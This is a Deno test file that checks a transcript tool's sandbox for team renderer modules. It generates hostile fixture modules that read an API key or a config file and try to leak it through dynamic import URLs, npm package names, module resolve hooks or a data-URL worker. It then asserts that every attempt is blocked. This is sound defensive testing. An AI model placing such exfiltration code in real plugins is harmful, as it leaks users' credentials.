// Copyright 2026 the brigade authors. MIT license.

// A team's renderer may import only what its own import map and files name: its graph is loaded
// before any of it runs, then the import permission is revoked. A dynamic import carrying what the
// renderer read (here the API key) in its URL, or in the name of an npm package, reaches no host,
// whether the module tries it as it is imported or as it renders, under the task or under `-A`.

import assert from "node:assert/strict";
import { join } from "node:path";
import { ROOT, type Run, run, taskFrom } from "./_command.ts";
import { startFakeApi } from "./_managed_agents_server.ts";

/** A module that, at `when`, imports a URL of `base` with the API key in it. */
function leaking(name: string, when: "import" | "render", base: string): string {
  const grab = `await import(${JSON.stringify(`${base}/x?k=`)} + secret())`;
  return `import { TITLE } from "./words.ts";
import { redact } from "@brigade/transcript";
// The key where the run may read it (--session), else what it can read: the configuration.
const secret = (): string => {
  try {
    return Deno.env.get("ANTHROPIC_API_KEY") ?? "";
  } catch {
    return Deno.readTextFileSync(new URL("./deno.json", import.meta.url)).slice(0, 16);
  }
};
${when === "import" ? `${grab};` : ""}
export const renderers = [{ name: ${
    JSON.stringify(name)
  }, description: "Leaks", render: async () => {
  ${when === "render" ? `${grab};` : ""}
  return redact(TITLE) + "\\n";
} }];
`;
}

Deno.test("render: a team's renderer cannot reach a host through import()", async (t) => {
  const temp = await Deno.makeTempDir({ prefix: "transcript_team_import_" });
  const seen: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen(): void {} },
    (request): Response => {
      seen.push(request.url);
      return new Response("export const x = 1;\n", {
        headers: { "content-type": "application/javascript" },
      });
    },
  );
  const base = `http://127.0.0.1:${server.addr.port}`;
  try {
    await Deno.writeTextFile(
      join(temp, "words.ts"),
      `export const TITLE = "static imports work";\n`,
    );
    await Deno.writeTextFile(join(temp, "at_render.ts"), leaking("at-render", "render", base));
    await Deno.writeTextFile(join(temp, "at_import.ts"), leaking("at-import", "import", base));
    await Deno.writeTextFile(
      join(temp, "npm.ts"),
      leaking("npm", "render", "npm:brigade-leak").replace(
        `"npm:brigade-leak/x?k=" + `,
        `"npm:brigade-leak-" + `,
      ),
    );
    // Around the resolve hook: a hook of its own (ahead of the command's), or a worker (which no
    // hook sees), to have Deno fetch an npm package named with what was read.
    const npmLeak = `"npm:brigade-leak-" + secret()`;
    await Deno.writeTextFile(
      join(temp, "hooks.ts"),
      leaking("hooks", "render", base).replace(
        /await import\(.*\);/,
        `(globalThis as any).process.getBuiltinModule("module").registerHooks({
    resolve: (s: string) => ({ url: s, shortCircuit: true }),
  });
  await import(${npmLeak});`,
      ),
    );
    await Deno.writeTextFile(
      join(temp, "named_hooks.ts"),
      `import { registerHooks } from "node:module";\nvoid registerHooks;\n${
        leaking("named-hooks", "render", base)
      }`,
    );
    await Deno.writeTextFile(
      join(temp, "worker.ts"),
      leaking("worker", "render", base).replace(
        /await import\(.*\);/,
        `new Worker("data:text/javascript," + encodeURIComponent(\`import(\${JSON.stringify(${npmLeak})})\`), { type: "module" });
  await new Promise((resolve) => setTimeout(resolve, 2000));`,
      ),
    );
    await Deno.writeTextFile(
      join(temp, "deno.json"),
      JSON.stringify({
        transcript: {
          renderers: {
            "at-render": "./at_render.ts",
            "at-import": "./at_import.ts",
            npm: "./npm.ts",
            hooks: "./hooks.ts",
            "named-hooks": "./named_hooks.ts",
            worker: "./worker.ts",
          },
        },
      }),
    );
    const env = { ANTHROPIC_API_KEY: "sk-ant-api03-leak-test-000000000000" };
    const refused = /a team's renderer may import only what its own import map and files name/;
    const ways: [string, (args: string[]) => Promise<Run>][] = [
      ["deno task render", (args) => taskFrom("render", args, { cwd: temp, env })],
      [
        "deno run -A cli/render.ts",
        (args) =>
          run("deno", ["run", "-A", join(ROOT, "cli/render.ts"), ...args], { cwd: temp, env }),
      ],
    ];
    for (const [way, command] of ways) {
      await t.step(`${way}: as it renders, reported as the session's failure`, async () => {
        const result = await command(["--renderer", "at-render"]);
        assert.equal(result.code, 1, result.stderr);
        assert.match(result.stderr, refused);
        assert.equal(result.stdout, "");
      });
      await t.step(
        `${way}: as it is imported, reported as a module that fails to load`,
        async () => {
          const result = await command(["--renderer", "at-import"]);
          assert.equal(result.code, 2, result.stderr);
          assert.match(result.stderr, /^render: Cannot load renderer module .*at_import\.ts/);
          assert.match(result.stderr, refused);
        },
      );
      await t.step(`${way}: an npm package's name`, async () => {
        const result = await command(["--renderer", "npm"]);
        assert.equal(result.code, 1, result.stderr);
        assert.match(result.stderr, refused);
        assert.doesNotMatch(result.stderr, /registry\.npmjs\.org|does not exist/);
      });
      await t.step(`${way}: around the hook`, async () => {
        for (
          const [name, code, why] of [
            ["hooks", 1, /Cannot add module hooks: a team's renderer may not/],
            [
              "named-hooks",
              2,
              /Cannot load .*named_hooks\.ts: it imports "node:module", and a team's renderer may not add/,
            ],
            ["worker", 1, /Cannot start a worker: a team's renderer may not/],
          ] as const
        ) {
          const result = await command(["--renderer", name]);
          assert.equal(result.code, code, `${name}: ${result.stderr}`);
          assert.match(result.stderr, why);
          assert.doesNotMatch(result.stderr, /registry\.npmjs\.org|does not exist/);
        }
      });
    }
    await t.step("--session, in the worker that may read the key and reach the API", async () => {
      const key = "sk-ant-api03-team-import-test-000000000000";
      const api = startFakeApi({
        apiKey: key,
        sessions: [{
          id: "sesn_live",
          events: [{
            id: "sevt_1",
            type: "user.message",
            content: [{ type: "text", text: "Up?" }],
          }],
        }],
      });
      try {
        const session = await run("deno", [
          "run",
          "--unstable-worker-options",
          "--allow-read",
          "--allow-write",
          "--allow-net=127.0.0.1",
          // Imports from the loopback host allowed, as from a mirror: the module still may not.
          `--allow-import=127.0.0.1:${server.addr.port}`,
          "--allow-env=ANTHROPIC_API_KEY,ANTHROPIC_BASE_URL,TRANSCRIPT_WORKER_OPTIONS",
          join(ROOT, "cli/render.ts"),
          "--renderer",
          "at-render",
          "--session",
          "sesn_live",
        ], {
          cwd: temp,
          env: {
            ANTHROPIC_API_KEY: key,
            ANTHROPIC_BASE_URL: api.baseUrl,
            TRANSCRIPT_WORKER_OPTIONS: "1",
          },
        });
        assert.equal(session.code, 1, session.stderr);
        assert.match(session.stderr, refused);
        // What the module put in the URL is not printed either.
        assert.match(session.stderr, /Cannot import "http:\/\/127\.0\.0\.1:\d+\/…" from /);
        assert.doesNotMatch(session.stderr, /k=|team-import-test/);
      } finally {
        await api.shutdown();
      }
    });
    assert.deepEqual(seen, [], "the loopback server was reached");

    await t.step("what it names statically still loads", async () => {
      await Deno.writeTextFile(
        join(temp, "at_render.ts"),
        (await Deno.readTextFile(join(temp, "at_render.ts"))).replace(/await import\(.*\);/, ""),
      );
      const result = await taskFrom("render", ["--renderer", "at-render"], { cwd: temp, env });
      assert.equal(result.code, 0, result.stderr);
      assert.equal(result.stdout, "static imports work\n");
    });
  } finally {
    await server.shutdown();
    await Deno.remove(temp, { recursive: true });
  }
});
